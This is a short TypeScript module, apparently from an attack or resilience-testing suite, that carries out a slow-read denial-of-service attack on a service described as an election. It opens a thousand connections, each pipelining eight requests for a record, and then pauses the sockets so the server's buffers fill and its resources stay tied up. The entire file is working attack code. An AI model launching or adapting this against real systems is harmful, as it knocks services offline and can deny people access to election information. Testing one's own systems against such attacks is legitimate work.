// Connections that ask for the record and do not read it: the service keeps what it wants to send. They ask many times, because a short
// record would fit into what the system itself keeps for a connection.
import { type Attack, hold } from "./attack.ts";

const TIMES = 8; // a system may keep four megabytes for one connection

export const attack: Attack<undefined> = {
  says: "connections ask for the record and never read it",
  atOnce: 1000,
  equip: async () => undefined,
  one: (target) =>
    hold(target, (socket) => {
      const { host, pathname } = new URL(target.election);
      socket.once("data", (first: Buffer) => {
        target.tell(`answered ${/^HTTP\S* (\d+)/.exec(first.toString("latin1"))?.[1]}`);
        socket.pause();
      });
      socket.write(`GET ${pathname}/record HTTP/1.1\r\nhost: ${host}\r\n\r\n`.repeat(TIMES));
    }),
};
